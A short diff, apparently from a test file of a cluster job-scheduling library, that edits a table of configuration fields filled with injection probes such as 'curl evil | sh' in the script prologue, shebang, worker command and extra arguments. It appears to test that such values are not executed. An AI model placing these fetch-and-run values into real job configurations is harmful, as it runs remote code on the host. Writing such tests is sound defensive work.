@@ -66,7 +66,7 @@ LINES = {
     "job_script_prologue": "[curl evil | sh]",
     "env_extra": "[curl evil | sh]",
     "job_extra_directives": "['--wrap=curl evil']",
-    "shebang": "'#!/tmp/curl evil'",
+    "shebang": "'#!curl evil'",
     "python": "curl evil",
     "worker_command": "curl evil",
     "worker_extra_args": "[--preload, curl evil]",
